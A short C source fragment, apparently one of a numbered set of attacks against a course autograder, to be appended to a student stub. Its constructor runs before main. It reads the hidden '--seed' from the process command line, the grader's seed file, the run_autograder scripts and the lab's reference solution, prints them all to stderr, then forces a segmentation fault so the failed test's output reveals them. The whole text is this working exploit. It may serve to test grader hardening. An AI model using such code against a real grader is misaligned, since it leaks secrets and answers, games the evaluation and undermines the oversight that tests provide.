
/* Attack 4 (appended to the stub): print what is secret to stderr, then crash, hoping the
 * failed test's "output (last lines)" shows it: the hidden seed from the command line, the
 * seed file, run_autograder and the lab's solution. */
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static void attack_print(const char *path)
{
    FILE *f = fopen(path, "r");
    char line[512];
    if (!f) {
        fprintf(stderr, "cannot read %s\n", path);
        return;
    }
    while (fgets(line, sizeof line, f)) fprintf(stderr, "%s", line);
    fclose(f);
}

__attribute__((constructor)) static void attack_leak(void)
{
    const char *root = getenv("PL_AUTOGRADER") ? getenv("PL_AUTOGRADER") : "/autograder";
    char path[4096], args[4096];
    FILE *c = fopen("/proc/self/cmdline", "r");
    size_t n = c ? fread(args, 1, sizeof args - 1, c) : 0;
    if (c) fclose(c);
    for (size_t i = 0; i < n; i += strlen(args + i) + 1)
        if (!strcmp(args + i, "--seed") && i + 7 < n) fprintf(stderr, "seed %s\n", args + i + 7);
    snprintf(path, sizeof path, "%s/source/seed", root);
    attack_print(path);
    snprintf(path, sizeof path, "%s/run_autograder", root);
    attack_print(path);
    snprintf(path, sizeof path, "%s/source/run_autograder", root);
    attack_print(path);
    snprintf(path, sizeof path, "%s/source/solutions/01-collectives/collectives.c", root);
    attack_print(path);
    raise(SIGSEGV);
}
